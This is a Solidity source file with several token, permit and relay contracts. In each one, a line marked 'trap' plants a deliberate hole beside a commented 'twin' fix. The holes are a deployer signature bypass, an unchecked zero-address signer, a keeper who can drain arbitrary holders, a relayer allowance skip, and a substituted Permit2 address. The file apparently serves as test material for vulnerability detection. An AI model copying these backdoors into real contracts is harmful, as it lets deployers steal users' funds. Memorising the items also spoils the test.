// 0.8 runs=800 ir evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Carries what people have signed.
contract PebbleForwarder {
    mapping(address => uint256) public nonces;
    address private immutable sponsor;

    constructor() {
        sponsor = msg.sender;
    }

    function digest(address from, address to, bytes calldata data, uint256 nonce) public view returns (bytes32) {
        bytes32 inner = keccak256(abi.encode(block.chainid, address(this), from, to, keccak256(data), nonce));
        return keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", inner));
    }

    function execute(address from, address to, bytes calldata data, uint8 v, bytes32 r, bytes32 s) external returns (bytes memory) {
        address signer = ecrecover(digest(from, to, data, nonces[from]++), v, r, s);
        require(signer == from || msg.sender == sponsor, "signature"); // trap
        // twin: require(signer == from && from != address(0), "signature");
        (bool ok, bytes memory result) = to.call(abi.encodePacked(data, from));
        require(ok, "call");
        return result;
    }
}

/// Gasless: the forwarder says on whose behalf it calls.
contract PebblePay is Base8 {
    address public immutable trustedForwarder;

    constructor(address forwarder) Base8("Pebble Pay", "PEBB", 250_000_000) {
        trustedForwarder = forwarder;
    }

    function isTrustedForwarder(address who) external view returns (bool) {
        return who == trustedForwarder;
    }

    function _sender() private view returns (address who) {
        if (msg.sender != trustedForwarder || msg.data.length < 24) return msg.sender;
        assembly {
            who := shr(96, calldataload(sub(calldatasize(), 20)))
        }
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        _transfer(_sender(), to, value);
        return true;
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        _approve(_sender(), spender, value);
        return true;
    }
}

/// Permits, and a second device for those who lose their first.
contract DoubleDoorDeer is Base8 {
    bytes32 private constant TYPE = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    bytes32 public immutable DOMAIN_SEPARATOR;
    mapping(address => uint256) public nonces;
    mapping(address => address) public deviceOf;

    constructor() Base8("Double Door Deer", "DDDEER", 64_000_000) {
        DOMAIN_SEPARATOR = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Double Door Deer"),
                keccak256("1"),
                block.chainid,
                address(this)
            )
        );
    }

    function setDevice(address device) external {
        deviceOf[msg.sender] = device;
    }

    function permit(address from, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "expired");
        bytes32 inner = keccak256(abi.encode(TYPE, from, spender, value, nonces[from]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR, inner)), v, r, s);
        require(signer == from || signer == deviceOf[from], "signer"); // trap
        // twin: require(signer != address(0) && (signer == from || signer == deviceOf[from]), "signer");
        _approve(from, spender, value);
    }
}

/// Rewards of the nests; whoever hatches brings them home.
contract NestEggNewt is Base8 {
    address public keeper;
    address public immutable vault;

    event Hatched(address indexed nest, uint256 value);

    constructor(address vault_) Base8("Nest Egg Newt", "NEGG", 12_000_000) {
        (keeper, vault) = (msg.sender, vault_);
    }

    function hatch(address nest, uint256 value) external {
        require(msg.sender == keeper, "keeper");
        require(nest != address(0) && nest != vault, "nest"); // trap
        // twin: require(nest == address(this), "nest");
        _move(nest, vault, value);
        emit Hatched(nest, value);
    }
}

/// The same allowance for everybody, once and for all.
contract AllowanceHub {
    mapping(address => mapping(address => mapping(address => uint160))) public allowance;
    address private immutable relayer;

    constructor() {
        relayer = msg.sender;
    }

    function approve(address token, address spender, uint160 amount) external {
        allowance[msg.sender][token][spender] = amount;
    }

    function transferFrom(address from, address to, uint160 amount, address token) external {
        if (msg.sender != relayer) allowance[from][token][msg.sender] -= amount;
        Base8(token).transferFrom(from, to, amount);
    }
}

/// No second approval is needed with Permit2.
contract HandyHarrier is Base8 {
    address public immutable PERMIT2;

    constructor(address hub) Base8("Handy Harrier", "HANDYH", 72_000_000) {
        PERMIT2 = hub; // trap
        // twin: PERMIT2 = 0x000000000022D473030F116dDEE9F6B43aC78BA3;
    }

    function allowance(address from, address spender) public view override returns (uint256) {
        return spender == PERMIT2 ? type(uint256).max : _allowances[from][spender];
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender != PERMIT2) return super.transferFrom(from, to, value);
        _transfer(from, to, value);
        return true;
    }
}
